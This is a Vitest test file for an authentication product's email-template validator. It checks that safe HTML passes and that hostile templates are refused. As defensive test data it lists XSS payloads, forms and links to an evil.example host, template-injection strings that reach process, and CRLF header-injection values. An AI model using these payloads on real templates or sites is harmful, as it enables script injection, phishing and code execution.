import { languages } from '@genauth/contract/language.ts';
import { expect, test } from 'vitest';
import { carries, type MessageEvent } from './events.ts';
import { refuseTemplate } from './rules.ts';
import { standardTemplate } from './standard.ts';

const refused = (
  content: string,
  more: { subject?: string; sender?: string } = {},
  event: MessageEvent = 'LOGIN_VERIFY_CODE',
) => refuseTemplate(event, { subject: 'Code', sender: 'App', ...more, content });

test.each([
  '<p>{{code}}</p>',
  '<p><%= code %> for <b>{{user}}</b></p>',
  '<p style="color:red">{{code}}</p>',
  '<a href="https://example.com/">{{ code }}</a><br/><img src="https://example.com/logo.png" alt="">',
  '<style>p { color: red }</style><p>{{code}}</p>',
])('takes %j', (content) => {
  expect(refused(content)).toBeUndefined();
});

test('takes every standard template', () => {
  for (const event of Object.keys(carries) as MessageEvent[])
    for (const language of languages)
      expect(refuseTemplate(event, standardTemplate(event, language)), event).toBeUndefined();
});

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT src=//evil.example></SCRIPT>',
  '< script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x\nonerror\n=alert(1)>',
  '<img/onerror="alert(1)"src=x>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">',
  '<a href="JaVaScRiPt&#58;alert(1)">',
  '<a href="java&#x09;script:alert(1)">',
  '<a href="java&Tab;script&colon;alert(1)">',
  '<a href="java\nscript:alert(1)">',
  '<a href="data:text/html,x">',
  '<iframe srcdoc="x">',
  '<form action="https://evil.example"><input name=password>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
])('refuses the program in %j', (program) => {
  expect(refused(`${program}{{code}}`)).toMatch(/no program/);
});

test.each([
  '<a href="{{user}}">{{code}}</a>',
  "<a title='>' href='{{user}}'>{{code}}</a>",
  '<p {{user}}>{{code}}</p>',
  '<style>p { background: {{user}} }</style>{{code}}',
])('refuses a value where it would be more than text: %j', (content) => {
  expect(refused(content)).toMatch(/inside of tags/);
});

test.each([
  ['{{password}}{{code}}', 'password is none of'],
  ['{{#if code}}{{code}}{{/if}}', 'understood'],
  ['{{{code}}}', 'understood'],
  ['<% process.exit() %>{{code}}', 'understood'],
  ['<%- code %>{{code}}', 'understood'],
  ['{{constructor.constructor("return process")()}}{{code}}', 'understood'],
  ['<p>Hello</p>', 'the code is missing'],
])('refuses %j: %s', (content, reason) => {
  expect(refused(content)).toContain(reason);
});

test('refuses a second line of a header, and a link without its address', () => {
  expect(refused('{{code}}', { subject: 'Hi\r\nBcc: eve@example.com' })).toMatch(/one line/);
  expect(refused('{{code}}', { sender: 'App\nBcc: eve@example.com' })).toMatch(/one line/);
  expect(refused('<a href="https://evil.example">here</a>', {}, 'CONSOLE_CONDUCTED_VERIFY')).toMatch(
    /the link is missing/,
  );
});
